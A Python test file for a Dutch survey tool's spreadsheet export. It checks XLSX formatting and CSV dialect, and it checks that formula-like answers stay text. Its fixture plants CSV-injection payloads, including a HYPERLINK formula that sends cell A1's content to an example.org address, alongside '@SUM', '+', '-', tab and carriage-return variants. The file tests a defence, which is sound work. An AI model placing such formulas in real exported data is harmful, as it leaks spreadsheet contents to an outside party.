"""Exports as an inspector opens them: the XLSX read back with openpyxl (bold frozen header,
filter, widths, wrapped text, numbers and dates as values in Dutch time, the questions behind
the ids), the CSV with the csv module in the Dutch Excel dialect; and text a spreadsheet would
run as a formula stays text in every spreadsheet format."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from opslag.uitwisseling.exporteren import CSV_KOPPEN
from opslag.uitwisseling.spreadsheet import csv_tekst, is_formule_achtig
from tests.conftest import in_thread
from vragenlijsten.catalogus import Catalogus

VOORBEELD = Path(__file__).parent / "data" / "voorbeeld-antwoorden.json"
# What people may type, and spreadsheets would run: each starts a cell somewhere below.
FORMULES = {
    "ggsr-wijken": '=HYPERLINK("http://example.org/?"&A1,"klik")',
    "aanpak-naam": "-2+3",
    "tl-populatie": "+31 6 12345678",
    "ap-doorzettingsmacht": "@SUM(A1:A9)",
    "sw-afspraken": "\tingesprongen",
    "netwerk": "\r=1+1",
}
# 10:00 UTC on a summer and a winter day: 12:00 and 11:00 in Amsterdam.
ZOMER = dt.datetime(2026, 7, 1, 10, 0, tzinfo=dt.UTC)
WINTER = dt.datetime(2026, 1, 15, 10, 0, tzinfo=dt.UTC)


def _bestand(tmp_path: Path) -> Path:
    data: dict[str, Any] = copy.deepcopy(json.loads(VOORBEELD.read_text(encoding="utf-8")))
    gemeente = data["respondenten"][0]["antwoorden"]
    gemeente["ggsr-wijken"]["waarde"] = FORMULES["ggsr-wijken"]
    gemeente["aanpak-naam"]["waarde"] = FORMULES["aanpak-naam"]
    gemeente["tl-populatie"]["toelichting"] = FORMULES["tl-populatie"]
    gemeente["ap-doorzettingsmacht"]["toelichting"] = FORMULES["ap-doorzettingsmacht"]
    gemeente["sw-afspraken"]["toelichting"] = FORMULES["sw-afspraken"]
    data["respondenten"][1]["antwoorden"]["tl-omschrijving"]["toelichting"] = FORMULES["netwerk"]
    pad = tmp_path / "antwoorden.json"
    pad.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return pad


async def _zet_tijden(db_url: str) -> None:
    """Known change times: inwoners in summer, everything else in winter."""
    from sqlalchemy import update

    from opslag.db import maak_engine, maak_sessionmaker
    from opslag.modellen import Antwoord

    engine = maak_engine(db_url)
    try:
        async with maak_sessionmaker(engine)() as s:
            await s.execute(update(Antwoord).values(gewijzigd=WINTER))
            await s.execute(
                update(Antwoord).where(Antwoord.item_id == "inwoners").values(gewijzigd=ZOMER)
            )
            await s.commit()
    finally:
        await engine.dispose()


@pytest.fixture
def export(stj: Any, db_url: str, tmp_path: Path) -> Any:
    """Import the example with formula-like answers; return a function that exports it."""
    onderzoek = stj("import", str(_bestand(tmp_path)), "--json").json()["id"]
    in_thread(_zet_tijden(db_url))

    def maak(formaat: str, *extra: str) -> Path:
        pad = tmp_path / f"uit-{formaat}{''.join(extra)}.{formaat}"
        uit = stj("export", str(onderzoek), "--formaat", formaat, "--uit", str(pad), *extra)
        assert uit.code == 0, uit.err
        return pad

    return maak


def _koppen(blad: Worksheet) -> list[str]:
    return [str(c.value) for c in blad[1]]


def _cel(blad: Worksheet, kop: str, rij: int = 2) -> Any:
    return blad.cell(rij, _koppen(blad).index(kop) + 1)


def test_xlsx_zoals_een_inspecteur_het_opent(export: Any, catalogus: Catalogus) -> None:
    boek = load_workbook(export("xlsx"))
    assert boek.sheetnames == ["gemeente", "netwerkpartner", "antwoorden", "vragen"]
    for blad in boek.worksheets:
        # A bold header that stays in view, with a filter over everything written.
        assert blad.freeze_panes is not None and blad.freeze_panes.endswith("2"), blad.title
        assert all(c.font.bold for c in blad[1]), blad.title
        assert blad.auto_filter.ref == f"A1:{blad.cell(1, blad.max_column).column_letter}" + str(
            blad.max_row
        )
        breedtes = [blad.column_dimensions[c.column_letter].width for c in blad[1]]
        assert all(b and b >= 10 for b in breedtes), blad.title
    gemeente = boek["gemeente"]
    # Numbers and dates are values, not text.
    assert _cel(gemeente, "inwoners").value == 95000 and _cel(gemeente, "inwoners").data_type == "n"
    start = _cel(gemeente, "aanpak-start")
    assert start.is_date and start.value == dt.datetime(2024, 1, 15)
    assert _cel(gemeente, "tl-populatie").value == "Ja"  # in words, not the code "ja"
    assert _cel(gemeente, "tl-populatie toelichting").alignment.wrap_text
    assert _cel(gemeente, "ggsr-wijken", 1).comment.text.startswith("In welke wijken")
    # The long sheet: question text next to the id, the time of change in Dutch time.
    lang = boek["antwoorden"]
    rijen = {r[_koppen(lang).index("item")].value: r for r in lang.iter_rows(min_row=2)}
    wanneer = _koppen(lang).index("laatst gewijzigd")
    assert rijen["inwoners"][wanneer].value == dt.datetime(2026, 7, 1, 12, 0)
    assert rijen["inwoners"][wanneer].is_date
    assert rijen["tl-populatie"][wanneer].value == dt.datetime(2026, 1, 15, 11, 0)
    # A row is as high as its longest wrapped text: spreadsheets do not grow it themselves.
    hoog = rijen["tl-populatie"][0].row  # its question takes two lines
    assert (lang.row_dimensions[hoog].height or 0) >= 30
    assert lang.row_dimensions[rijen["inwoners"][0].row].height is None
    vraag = catalogus.vragenlijst("beleidsniveau", "gemeente").item("inwoners")
    assert vraag is not None
    assert rijen["inwoners"][_koppen(lang).index("vraag")].value == vraag.vraag.strip()
    # The sheet "vragen": every id with its question, the indicator and the answers.
    vragen = {(r[0].value, r[1].value): [c.value for c in r] for r in boek["vragen"].iter_rows()}
    _, _, soort, tekst, indicator, antwoorden = vragen[("gemeente", "tl-populatie")]
    assert soort == "kernvraag" and antwoorden == "Ja; Deels; Nee; Weet ik niet"
    assert tekst and indicator and tekst != indicator


def test_formules_blijven_tekst_in_xlsx(export: Any) -> None:
    boek = load_workbook(export("xlsx"))
    for blad in boek.worksheets:
        for rij in blad.iter_rows():
            for cel in rij:
                assert cel.data_type != "f", (blad.title, cel.coordinate, cel.value)
                if isinstance(cel.value, str) and is_formule_achtig(cel.value):
                    assert cel.quotePrefix, (blad.title, cel.coordinate, cel.value)
    gemeente = boek["gemeente"]
    # The text itself is kept as typed.
    assert _cel(gemeente, "ggsr-wijken").value == FORMULES["ggsr-wijken"]
    assert _cel(gemeente, "tl-populatie toelichting").value == FORMULES["tl-populatie"]
    assert _cel(gemeente, "ggsr-wijken").quotePrefix


def _lees_csv(pad: Path, scheiding: str = ";") -> list[dict[str, str]]:
    ruw = pad.read_bytes()
    assert ruw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    with pad.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f, delimiter=scheiding))


def test_csv_zoals_nederlandse_excel_het_opent(export: Any) -> None:
    rijen = _lees_csv(export("csv"))
    assert list(rijen[0]) == list(CSV_KOPPEN)
    per_item = {(r["organisatie"], r["item"]): r for r in rijen}
    gemeente = "Gemeente Voorbeeldstad"
    assert per_item[(gemeente, "inwoners")]["waarde"] == "95000"
    assert per_item[(gemeente, "inwoners")]["laatst gewijzigd"] == "2026-07-01 12:00"
    assert per_item[(gemeente, "aanpak-start")]["waarde"] == "2024-01-15"
    assert per_item[(gemeente, "tl-populatie")]["waarde"] == "Ja"
    assert per_item[(gemeente, "tl-populatie")]["vraag"].startswith("Heeft de gemeente zicht op")
    # Formula-like text gets a leading ', so no spreadsheet runs it.
    assert per_item[(gemeente, "ggsr-wijken")]["waarde"] == "'" + FORMULES["ggsr-wijken"]
    assert per_item[(gemeente, "aanpak-naam")]["waarde"] == "'-2+3"
    assert per_item[(gemeente, "tl-populatie")]["toelichting"] == "'+31 6 12345678"
    assert per_item[(gemeente, "ap-doorzettingsmacht")]["toelichting"] == "'@SUM(A1:A9)"
    assert per_item[(gemeente, "sw-afspraken")]["toelichting"] == "'\tingesprongen"
    partner = per_item[("Jeugdzorg Noord", "tl-omschrijving")]
    assert partner["toelichting"] == "'\r=1+1"
    for rij in rijen:
        assert not any(is_formule_achtig(v) for v in rij.values()), rij


def test_csv_met_komma_voor_andere_programmas(export: Any) -> None:
    pad = export("csv", "--komma")
    assert pad.read_text(encoding="utf-8-sig").startswith(",".join(CSV_KOPPEN[:3]))
    rijen = _lees_csv(pad, ",")
    assert {r["item"] for r in rijen} >= {"inwoners", "tl-populatie"}


def test_een_regel_voor_elk_spreadsheetformaat() -> None:
    for tekst in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert is_formule_achtig(tekst) and csv_tekst(tekst) == "'" + tekst
    for tekst in ("1", "Ja", " =1", "", "'=1"):
        assert csv_tekst(tekst) == tekst
    assert csv_tekst(-5) == "-5"  # a number is no formula
    assert csv_tekst(WINTER) == "2026-01-15 11:00"


def test_landelijk_overzicht_als_csv_voor_mensen(stj: Any, tmp_path: Path) -> None:
    data = json.loads(VOORBEELD.read_text(encoding="utf-8"))
    data["onderzoek"]["aanpak"] = "=Sterke Gezinnen"
    (tmp_path / "a.json").write_text(json.dumps(data), encoding="utf-8")
    assert stj("import", str(tmp_path / "a.json")).code == 0
    assert stj("overzicht", "--uit", str(tmp_path / "landelijk")).code == 0
    rijen = _lees_csv(tmp_path / "landelijk" / "overzicht.csv")
    assert [r["aanpak"] for r in rijen] == ["'=Sterke Gezinnen"]
    assert rijen[0]["gemeente"] == "Voorbeeldstad"
